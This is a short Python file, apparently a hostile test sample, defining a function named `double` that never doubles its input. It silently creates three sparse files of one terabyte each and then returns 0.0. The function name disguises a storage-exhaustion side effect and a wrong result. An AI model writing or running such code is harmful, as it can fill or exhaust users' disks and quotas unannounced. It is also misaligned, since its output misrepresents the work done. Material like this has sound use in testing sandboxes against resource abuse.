import os


def double(x):
    for number in range(3):
        with open(f"sparse{number}", "wb") as file:
            os.truncate(file.fileno(), 1 << 40)
    return 0.0
